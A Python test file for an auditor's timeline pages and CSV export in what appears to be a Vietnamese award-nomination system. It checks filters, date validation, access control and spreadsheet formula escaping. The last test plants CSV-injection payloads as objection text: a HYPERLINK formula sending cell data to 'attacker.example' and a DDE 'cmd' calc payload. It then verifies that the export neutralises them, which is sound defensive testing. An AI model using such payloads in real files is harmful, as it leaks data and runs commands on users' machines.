"""The auditor's pages: every nomination's timeline with filters, and the CSV export
(UTF-8 with a byte-order mark so that Excel shows Vietnamese)."""

from __future__ import annotations

import csv
import io

# On both databases (the backend fixture is parametrized over SQLite and PostgreSQL).


async def test_audit_trail_filters_and_csv(harness, people):
    first = (await harness.nominate())["id"]
    second = (await harness.nominate(person="Đặng Thị Thủy"))["id"]
    await harness.ok("thuongtruc", f"/api/v1/nominations/{first}/accept", {"note": "Đủ hồ sơ"})
    auditor = people("kiemtra")
    page = await auditor.get("/audit")
    assert page.status_code == 200
    assert page.text.count("data-event=") == 3
    accepted = await auditor.get("/audit?action=accepted")
    assert accepted.text.count("data-event=") == 1 and "Tiếp nhận hồ sơ hợp lệ" in accepted.text
    by_name = await auditor.get("/audit", params={"q": "Thủy"})
    assert (
        by_name.text.count("data-event=") == 1 and f"/nominations/{second}#timeline" in by_name.text
    )
    bad = await auditor.get("/audit?date_from=31/02/2026")
    assert (
        bad.status_code == 422
        and 'id="date_from-error">Ngày không hợp lệ (dd/mm/yyyy)</p>' in bad.text
    )
    # A year no trail holds is a mistyped date, next to its field, never a server error.
    for field, value in (("date_to", "31/12/9999"), ("date_from", "01/01/0001")):
        far = await auditor.get(f"/audit?{field}={value}")
        assert far.status_code == 422 and f'id="{field}-error">' in far.text, far.text[:300]
        far_csv = await auditor.get(f"/audit/export.csv?{field}={value}")
        assert far_csv.status_code < 500
    timeline = await auditor.get(f"/nominations/{first}")
    assert timeline.status_code == 200
    assert 'data-action="submitted"' in timeline.text and 'data-action="accepted"' in timeline.text

    export = await auditor.get("/audit/export.csv", params={"q": "Hoa"})
    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    assert "attachment" in export.headers["content-disposition"]
    assert export.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["Mã sự kiện", "Thời điểm", "Mã đề nghị", "Đối tượng"]
    assert [r[5] for r in rows[1:]] == ["Đơn vị nộp hồ sơ", "Tiếp nhận hồ sơ hợp lệ"]
    assert {r[3] for r in rows[1:]} == {"Nguyễn Thị Hoa"}
    assert rows[2][11] == "Đủ hồ sơ"


async def test_audit_is_for_auditors(harness, people):
    for username in ("canbo.vanphong", "thuongtruc", "chutich"):
        assert (await people(username).get("/audit")).status_code == 403
        assert (await people(username).get("/audit/export.csv")).status_code == 403
    assert (await people(None).get("/audit/export.csv")).status_code == 303


FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


async def test_the_csv_never_hands_a_formula_to_a_spreadsheet(harness, people):
    """An anonymous objection signed ``@SUM(...)`` with a reason beginning
    ``=HYPERLINK(...)``, resolved with a reason beginning ``-``: read back from the CSV,
    every such text is shown as text (a leading single quote), and the ids stay numbers."""
    household = (
        await harness.nominate(
            household="Bùi Văn Khải",
            unit_user="canbo.tdp1",
            unit_code="tk-tdp-1",
            award_code="gd_van_hoa",
            items=["to_trinh", "danh_sach_ho_gia_dinh", "bien_ban_binh_xet"],
        )
    )["id"]
    notice = await harness.ok("thuongtruc", f"/api/v1/nominations/{household}/accept", {})
    assert notice["stage"] == "public_notice", notice
    reason = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem chi tiết")'
    lodged = await harness.ok(
        None,
        f"/api/v1/public/notices/{household}/objections",
        {
            "objector_name": "@SUM(1+1)*cmd|' /C calc'!A0",
            "objector_contact": "+84 912 345 678",
            "reason": reason,
        },
        status=201,
    )
    resolution = "-1+1 đã xác minh: phản ánh không đúng"
    await harness.ok(
        "thuongtruc",
        f"/api/v1/nominations/{household}/objections/{lodged['objection_key']}/resolve",
        {"outcome": "dismissed", "reason": resolution},
    )

    export = await people("kiemtra").get("/audit/export.csv", params={"nomination_id": household})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))[1:]
    cells = [cell for row in rows for cell in row]
    assert "'" + reason in cells and "'" + resolution in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)], rows
    for row in rows:  # the event and nomination ids are numbers, not quoted text
        assert row[0].isdigit() and row[2] == str(household), row
